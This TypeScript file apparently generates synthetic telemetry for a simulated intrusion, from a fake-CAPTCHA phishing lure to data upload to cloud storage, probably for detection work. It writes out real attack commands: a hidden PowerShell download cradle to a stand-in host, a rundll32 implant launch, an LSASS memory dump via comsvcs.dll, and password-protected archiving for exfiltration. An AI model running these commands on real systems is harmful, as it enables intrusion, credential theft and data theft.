import { hour, minute, second } from "../calendar.ts";
import { type Account, type Device, serverOf } from "../estate.ts";
import { localSystem, type Process, processOf } from "../host-events.ts";
import type { Alert, Click, Connection, Message, Occurrences } from "../occurrences.ts";
import type { Random } from "../random.ts";
import { attack, step, type ToldStep } from "./attack.ts";
import type { Cast, Victim } from "./cast.ts";
import {
  calls,
  callsHome,
  desktopOf,
  images,
  logon,
  reaches,
  rented,
  servicesOf,
  started,
  systemOf,
  typed,
  wmiProviderOf,
} from "./stage.ts";

const captcha = rented("verify.human-check.example", "203.0.113.58");
const relay = rented("relay.quickassist-desk.example", "203.0.113.49");
const control = rented("telemetry.fontcache-cdn.example", "203.0.113.45");
// A storage service that everybody knows; its addresses are not the attacker's.
const storage = rented("gfs204n118.userstorage.mega.co.nz", "203.0.113.32");

const tool = "C:\\Program Files (x86)\\ScreenConnect Client (5f1c7e29a0b34d68)\\ScreenConnect.ClientService.exe";
const implantPath = "C:\\ProgramData\\FontCache\\fntcache.dll";

/** What one part of the story hands to the next. */
interface Scene {
  readonly cast: Cast;
  readonly victim: Victim;
  readonly admin: Account;
  readonly random: Random;
  /** When the lure is followed. */
  readonly begin: number;
}

export const handsOnKeyboard = attack({
  id: "hands-on-keyboard",
  title: "A pasted command lets somebody in, who moves on to the servers, packs what is there and takes it away",
  techniques: [
    "T1566.002",
    "T1204.004",
    "T1059.001",
    "T1219.002",
    "T1071.001",
    "T1082",
    "T1087.002",
    "T1003.001",
    "T1021.002",
    "T1047",
    "T1021.001",
    "T1560.001",
    "T1567.002",
  ],
  tell: (cast, random) => {
    const victim = cast.victim(random, {
      midnight: cast.workday(1),
      departments: ["operations", "engineering", "sales"],
      staysOn: true,
    });
    const { account: admin } = cast.administrator(random);
    const scene: Scene = { cast, victim, admin, random, begin: victim.worksFrom + random.between(60, 80) * minute };
    const implant = processOf(images.rundll, `"${images.rundll}" ${implantPath},Start`, victim.person, random);
    const first = pasted(scene, implant);
    const moved = movement(scene, implant);
    return {
      steps: [
        mailed(scene),
        first,
        remoteTool(scene),
        beacon(
          scene,
          implant,
          "beacon",
          "The implant calls home over HTTPS every four minutes or so, to the end.",
          victim.desk,
          scene.begin + 6 * minute,
        ),
        discovery(scene),
        credentials(scene),
        ...moved.steps,
        beacon(
          scene,
          moved.implant,
          "second-beacon",
          "A second implant on the application server calls the same host, and still does.",
          moved.application,
          moved.since,
        ),
        archive(scene, moved.shell, moved.files),
        upload(scene, moved.files),
      ],
      around: {},
    };
  },
});

/** The mail that brings somebody to the page. */
function mailed({ victim, random, begin, cast }: Scene): ToldStep {
  const { person, desk } = victim;
  const time = begin - 18 * minute;
  const message: Message = {
    id: random.uuid(),
    time,
    isDelivered: true,
    sender: "planning@transport-portal.example",
    senderName: "Transport planning",
    senderAddress: "203.0.113.53",
    recipients: [person],
    subject: "Changed pick-up times for tomorrow",
    sizeBytes: 22_116,
    threat: {
      id: random.hex(64),
      url: `https://${captcha.host}/p/${random.hex(8)}`,
      classification: "malware",
      status: "active",
      time: time + 7.4 * hour,
    },
    scores: { spam: 15, phish: 33, malware: 22, impostor: 8 },
  };
  const click: Click = {
    id: random.uuid(),
    time: begin - 90 * second,
    message,
    person,
    address: victim.origin.address,
    isPermitted: true,
  };
  const outlook = processOf(images.outlook, `"${images.outlook}"`, person, random);
  const browser = processOf(images.browser, `"${images.browser}" --single-argument ${message.threat.url}`, person, random);
  return step("lure", "A mail about changed pick-up times links to a page that asks to prove that one is human.", {
    techniques: ["T1566.002", "T1204.001"],
    devices: [desk],
    users: [person],
    source: desk.address,
    destination: captcha.addresses[0] ?? "",
    port: 443,
    domain: captcha.host,
    occurrences: [
      {
        messages: [message],
        clicks: [click],
        processStarts: [
          started(begin - 55 * minute, desk, outlook, desktopOf(person, random)),
          started(begin - 89 * second, desk, browser, outlook),
        ],
        connections: calls(
          cast.estate,
          desk,
          browser,
          begin - 88 * second,
          captcha,
          { bytesOut: 2_900, bytesIn: 88_400, seconds: 64 },
          random,
        ),
      },
    ],
  });
}

/** The page has put a command on the clipboard and says how to run it. The first try is stopped, the second is not. */
function pasted({ cast, victim, random, begin }: Scene, implant: Process): ToldStep {
  const { person, desk } = victim;
  const desktop = desktopOf(person, random);
  const refused = `mshta https://${captcha.host}/v/check.hta # I am not a robot - verification ID ${random.integer(1000, 9999)}`;
  const text = `$u='https://${captcha.host}/v/f';$p='${implantPath}';mkdir (Split-Path $p) -Force|Out-Null;iwr $u -OutFile $p -UseBasicParsing;rundll32 $p,Start`;
  const typedCommand = `powershell -w hidden -ep bypass -c "iex(irm https://${captcha.host}/v/a)" # verification ID ${random.integer(1000, 9999)}`;
  const shell = processOf(
    images.powershell,
    `"${images.powershell}" -w hidden -ep bypass -c "iex(irm https://${captcha.host}/v/a)"`,
    person,
    random,
  );
  const page = processOf(images.mshta, `"${images.mshta}" https://${captcha.host}/v/check.hta`, person, random);
  const run = (time: number, valueName: string, data: string) => ({
    time,
    device: desk,
    process: desktop,
    key: `HKEY_USERS\\${person.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU`,
    valueName,
    data: `${data}\\1`,
    isAutostart: false,
  });
  const alert: Alert = {
    id: `${random.integer(1e11, 9e11)}-10417-${random.integer(1e7, 9e7)}`,
    time: begin + 41 * second,
    device: desk,
    person,
    name: "SuspiciousDownloadCradle",
    description: "PowerShell was started from the Run dialog and fetched a script.",
    severity: 50,
    tactic: "Execution",
    technique: "PowerShell",
    attack: { tactic: "TA0002", technique: "T1059.001" },
    file: shell.image,
    commandLine: shell.commandLine,
    parentFile: images.explorer,
  };
  return step(
    "pasted-command",
    "What the page put on the clipboard is pasted into the Run dialog: a web script that is stopped, then PowerShell, which fetches the implant.",
    {
      techniques: ["T1204.004", "T1059.001", "T1218.005", "T1105", "T1218.011"],
      devices: [desk],
      users: [person],
      source: desk.address,
      destination: captcha.addresses[0] ?? "",
      port: 443,
      domain: captcha.host,
      occurrences: [
        {
          registryChanges: [run(begin, "a", refused), run(begin + 39 * second, "b", typedCommand)],
          processStarts: [
            started(begin + 0.3 * second, desk, page, desktop, 1.2),
            started(begin + 39.4 * second, desk, shell, desktop, 22),
            started(begin + 58 * second, desk, implant, shell),
          ],
          scriptRuns: [{ time: begin + 42 * second, device: desk, process: shell, text, path: "" }],
          connections: [
            ...calls(
              cast.estate,
              desk,
              shell,
              begin + 40 * second,
              captcha,
              { bytesOut: 900, bytesIn: 4_100, seconds: 0.6 },
              random,
            ),
            ...calls(
              cast.estate,
              desk,
              shell,
              begin + 45 * second,
              captcha,
              { bytesOut: 800, bytesIn: 412_200, seconds: 2.1 },
              random,
            ),
          ],
          fileChanges: [
            {
              time: begin + 48 * second,
              device: desk,
              process: shell,
              action: "created",
              path: implantPath,
              sizeBytes: 411_648,
              sha256: random.hex(64),
            },
          ],
          alerts: [alert],
        },
      ],
    },
  );
}

/** A product for remote support, as a service: it comes back after a restart and looks like the service desk. */
function remoteTool({ cast, victim, random, begin }: Scene): ToldStep {
  const { person, desk } = victim;
  const time = begin + 26 * minute;
  const installer = processOf(
    images.installer,
    `"${images.installer}" /i C:\\ProgramData\\FontCache\\support.msi /qn`,
    person,
    random,
  );
  const client = processOf(tool, `"${tool}" "?e=Access&y=Guest&h=${relay.host}&p=443"`, localSystem, random);
  const sessions = callsHome(
    cast.estate,
    desk,
    client,
    relay,
    { from: time + 9 * second, to: cast.end, gap: () => random.between(50, 110) * minute },
    random,
  );
  return step(
    "remote-tool",
    "A product for remote support is installed as a service; it keeps a line open to a relay of the attacker's.",
    {
      techniques: ["T1219.002", "T1543.003"],
      devices: [desk],
      users: [person],
      source: desk.address,
      destination: relay.addresses[0] ?? "",
      port: 443,
      domain: relay.host,
      occurrences: [
        {
          processStarts: [
            started(time, desk, installer, processOf(images.shell, images.shell, person, random), 14),
            started(time + 8 * second, desk, client, servicesOf(random)),
          ],
          fileChanges: [
            {
              time: time + 5 * second,
              device: desk,
              process: installer,
              action: "created",
              path: tool,
              sizeBytes: 96_256,
              sha256: random.hex(64),
            },
          ],
          serviceInstalls: [
            {
              time: time + 7 * second,
              device: desk,
              process: servicesOf(random),
              account: localSystem,
              name: "ScreenConnect Client (5f1c7e29a0b34d68)",
              image: `"${tool}" "?e=Access&y=Guest&h=${relay.host}&p=443"`,
              start: "auto start",
            },
          ],
          connections: sessions,
        },
      ],
    },
  );
}

function beacon({ cast, random }: Scene, process: Process, name: string, text: string, device: Device, from: number): ToldStep {
  const connections = callsHome(
    cast.estate,
    device,
    process,
    control,
    { from, to: cast.end, gap: () => 4 * minute * random.between(0.8, 1.2) },
    random,
  );
  return step(name, text, {
    techniques: ["T1071.001", "T1573.002"],
    devices: [device],
    source: device.address,
    destination: control.addresses[0] ?? "",
    port: 443,
    domain: control.host,
    occurrences: [{ connections }],
  });
}

/** By hand, with mistakes. */
function discovery({ victim, random, begin }: Scene): ToldStep {
  const { person, desk } = victim;
  const shell = processOf(images.shell, images.shell, person, random);
  const commands = [
    "whoami.exe /all",
    "ipconfig.exe /all",
    "systeminfo.exe",
    "net.exe gruop /domain",
    'net.exe group "Domain Admins" /domain',
    "nltest.exe /dclist:",
    "net.exe view /domain",
    "quser.exe",
    "net.exe localgroup administrators",
  ];
  const from = begin + 1.6 * hour;
  return step(
    "discovery",
    "Who am I, what is this machine, who are the administrators, which servers are there; one command is mistyped.",
    {
      techniques: ["T1033", "T1016", "T1082", "T1069.002", "T1018", "T1087.002"],
      devices: [desk],
      users: [person],
      occurrences: [
        {
          processStarts: [
            started(from - 20 * second, desk, shell, processOf(tool, `"${tool}"`, localSystem, random)),
            ...typed(desk, from, commands, shell, person, random),
          ],
        },
      ],
    },
  );
}

/** An administrator has helped here in the morning, so there is something in the memory of the security process. */
function credentials({ victim, admin, random, begin }: Scene): ToldStep {
  const { person, desk } = victim;
  const time = begin + 2.4 * hour;
  const dump = processOf(
    images.rundll,
    `"${images.rundll}" C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\FontCache\\fc.dmp full`,
    localSystem,
    random,
  );
  const alert: Alert = {
    id: `${random.integer(1e11, 9e11)}-10357-${random.integer(1e7, 9e7)}`,
    time: time + 2 * second,
    device: desk,
    person: null,
    name: "ProcAccessLsass",
    description: "A process read the memory of the security process.",
    severity: 70,
    tactic: "Credential Access",
    technique: "OS Credential Dumping",
    attack: { tactic: "TA0006", technique: "T1003.001" },
    file: dump.image,
    commandLine: dump.commandLine,
    parentFile: images.shell,
  };
  return step(
    "credentials",
    "The memory of the security process is written to a file; with it come the credentials of an administrator who helped here in the morning.",
    {
      techniques: ["T1003.001", "T1078.002"],
      devices: [desk],
      users: [person, admin],
      occurrences: [
        {
          logons: [
            {
              time: begin - 50 * minute,
              account: admin,
              to: desk,
              from: null,
              type: 2,
              package: "Negotiate",
              protocol: null,
              logonId: `0x${random.hex(7)}`,
              isAdministrator: true,
              failure: null,
            },
          ],
          processStarts: [started(time, desk, dump, processOf(images.shell, images.shell, localSystem, random), 3)],
          fileChanges: [
            {
              time: time + 2.6 * second,
              device: desk,
              process: dump,
              action: "created",
              path: "C:\\ProgramData\\FontCache\\fc.dmp",
              sizeBytes: 61_224_960,
            },
          ],
          alerts: [alert],
        },
      ],
    },
  );
}

interface Movement {
  readonly steps: readonly ToldStep[];
  readonly application: Device;
  readonly files: Device;
  readonly implant: Process;
  readonly since: number;
  /** The shell on the file server. */
  readonly shell: Process;
}

/** A service on the application server (the second try), WMI to the file server, remote desktop to the backup server. */
function movement(scene: Scene, first: Process): Movement {
  const { cast, victim, admin, random, begin } = scene;
  const { estate } = cast;
  const { desk } = victim;
  const [application, files, backup] = [serverOf(estate, "application"), serverOf(estate, "files"), serverOf(estate, "backup")];
  const service = overService(scene, first, desk, application, begin + 4.2 * hour);
  const remote = processOf(
    images.shell,
    `cmd.exe /Q /c dir D:\\Shares 1> \\\\127.0.0.1\\ADMIN$\\__${random.integer(1e9, 2e9)} 2>&1`,
    admin,
    random,
  );
  const wmiTime = begin + 5.1 * hour;
  const wmi: Partial<Occurrences> = {
    logons: [logon(wmiTime + 0.3 * second, admin, application, files, { type: 3, package: "NTLM", protocol: "wmi" }, random)],
    connections: [
      reaches(application, files, wmiTime, 135, service.implant, random, { bytesOut: 900, bytesIn: 700, seconds: 0.4 }),
      reaches(application, files, wmiTime + 0.2 * second, 49_668, service.implant, random),
      reaches(application, files, wmiTime + 2 * second, 445, systemOf(random), random),
    ],
    processStarts: [started(wmiTime + 1.1 * second, files, remote, wmiProviderOf(random), 2)],
  };
  const desktopTime = begin + 5.8 * hour;
  const mstsc = processOf(images.remoteDesktop, `"${images.remoteDesktop}" /v:${backup.hostname}`, admin, random);
  const desktop: Partial<Occurrences> = {
    logons: [
      logon(desktopTime + 6 * second, admin, application, backup, { type: 10, package: "Negotiate", protocol: "rdp" }, random),
    ],
    connections: [
      reaches(application, backup, desktopTime, 3389, mstsc, random, { bytesOut: 410_000, bytesIn: 6_200_000, seconds: 780 }),
    ],
    processStarts: [
      started(desktopTime - 4 * second, application, mstsc, processOf(images.shell, images.shell, admin, random), 790),
      ...typed(
        backup,
        desktopTime + 40 * second,
        ["hostname.exe", "net.exe use", "tasklist.exe /svc"],
        processOf(images.shell, images.shell, admin, random),
        admin,
        random,
      ),
    ],
  };
  return {
    application,
    files,
    implant: service.implant,
    since: service.since,
    shell: remote,
    steps: [
      service.told,
      step(
        `movement-to-${files.hostname.toLowerCase()}`,
        "From there a process is started on the file server over WMI, with the administrator's credentials.",
        {
          techniques: ["T1047", "T1021.003", "T1078.002"],
          devices: [application, files],
          users: [admin],
          source: application.address,
          destination: files.address,
          port: 135,
          occurrences: [wmi],
        },
      ),
      step(`movement-to-${backup.hostname.toLowerCase()}`, "A desktop is opened on the backup server, and looked around in.", {
        techniques: ["T1021.001", "T1078.002"],
        devices: [application, backup],
        users: [admin],
        source: application.address,
        destination: backup.address,
        port: 3389,
        occurrences: [desktop],
      }),
    ],
  };
}

function overService({ admin, random }: Scene, first: Process, from: Device, to: Device, time: number) {
  const name = random.letters(8, "abcdefghijklmnopqrstuvwxyz");
  const services = servicesOf(random);
  const program = processOf(`C:\\Windows\\${name}.exe`, `C:\\Windows\\${name}.exe`, localSystem, random);
  const implant = processOf(
    images.rundll,
    `C:\\Windows\\System32\\rundll32.exe C:\\ProgramData\\FontCache\\fntcache.dll,Start`,
    localSystem,
    random,
  );
  const connections: Connection[] = [
    reaches(from, to, time - 4 * minute, 445, systemOf(random), random, { bytesOut: 2_100, bytesIn: 1_900, seconds: 1 }),
    reaches(from, to, time, 445, systemOf(random), random, { bytesOut: 1_240_000, bytesIn: 18_400, seconds: 96 }),
    reaches(from, to, time + 2 * second, 135, first, random, { bytesOut: 720, bytesIn: 640, seconds: 0.4 }),
  ];
  const arrived = logon(time + 0.4 * second, admin, from, to, { type: 3, package: "NTLM", protocol: "smb" }, random);
  const told = step(
    `movement-to-${to.hostname.toLowerCase()}`,
    `A program is copied to ${to.hostname} and started there as a service, with the administrator's credentials; the first password tried was wrong.`,
    {
      techniques: ["T1021.002", "T1569.002", "T1570", "T1078.002"],
      devices: [from, to],
      users: [admin],
      source: from.address,
      destination: to.address,
      port: 445,
      occurrences: [
        {
          connections,
          logons: [
            logon(
              time - 4 * minute + 300,
              admin,
              from,
              to,
              { type: 3, package: "NTLM", protocol: "smb", failure: "wrong password", isAdministrator: false },
              random,
            ),
            arrived,
          ],
          fileChanges: [
            {
              time: time + 1.1 * second,
              device: to,
              process: systemOf(random),
              action: "created",
              path: `C:\\Windows\\${name}.exe`,
              sizeBytes: 1_180_160,
              sha256: random.hex(64),
              over: { share: "ADMIN$", address: from.address, port: arrived.from?.port ?? 0, account: admin },
            },
          ],
          serviceInstalls: [
            {
              time: time + 3.2 * second,
              device: to,
              process: services,
              account: admin,
              name,
              image: `%SystemRoot%\\${name}.exe`,
              start: "demand start",
            },
          ],
          processStarts: [
            started(time + 3.9 * second, to, program, services, 30),
            started(time + 6 * second, to, implant, program),
          ],
        },
      ],
    },
  );
  return { told, implant, since: time + 20 * second };
}

/** In the evening the shares are packed, in parts, with a password; the names of files are hidden too. */
function archive({ victim, admin, random, begin }: Scene, shell: Process, files: Device): ToldStep {
  const time = begin + 9.2 * hour;
  const packer = "C:\\ProgramData\\FontCache\\rar.exe";
  const part = (share: string, at: number) => {
    const process = processOf(
      packer,
      `${packer} a -r -hp${random.letters(9, "abcdefghkmnpqrstuvwxyz23456789")} -v500m C:\\ProgramData\\FontCache\\${share}.rar D:\\Shares\\${share}`,
      admin,
      random,
    );
    return {
      start: started(at, files, process, shell, 640),
      files: [1, 2].map((number) => ({
        time: at + number * 4.2 * minute,
        device: files,
        process,
        action: "archived" as const,
        path: `C:\\ProgramData\\FontCache\\${share}.part${number}.rar`,
        sizeBytes: 524_288_000,
      })),
    };
  };
  const parts = [part("finance", time), part("contracts", time + 13 * minute)];
  return step("archive", "The shares of finance and contracts are packed in parts, with a password.", {
    techniques: ["T1560.001", "T1074.002"],
    devices: [files],
    users: [victim.person, admin],
    occurrences: [{ processStarts: parts.map(({ start }) => start), fileChanges: parts.flatMap((one) => one.files) }],
  });
}

/** At night the parts go to a store in the cloud. The sensors on hosts tell the connections, not how much went over them. */
function upload({ cast, admin, random, begin }: Scene, files: Device): ToldStep {
  const time = begin + 14.6 * hour;
  const program = "C:\\ProgramData\\FontCache\\svcsync.exe";
  const copier = processOf(
    program,
    `${program} copy C:\\ProgramData\\FontCache remote:backup --include *.rar --transfers 4`,
    admin,
    random,
  );
  const connections = Array.from({ length: 9 }, (_, index) =>
    calls(
      cast.estate,
      files,
      copier,
      time + index * random.between(2, 4) * minute,
      storage,
      { bytesOut: 230_000_000, bytesIn: 120_000, seconds: 180 },
      random,
    ),
  ).flat();
  return step("upload", "The parts are copied to a store in the cloud that nobody here uses.", {
    techniques: ["T1567.002", "T1041"],
    devices: [files],
    users: [admin],
    source: files.address,
    destination: storage.addresses[0] ?? "",
    port: 443,
    domain: storage.host,
    occurrences: [
      {
        processStarts: [started(time - 8 * second, files, copier, processOf(images.shell, images.shell, admin, random), 1900)],
        connections,
      },
    ],
  });
}
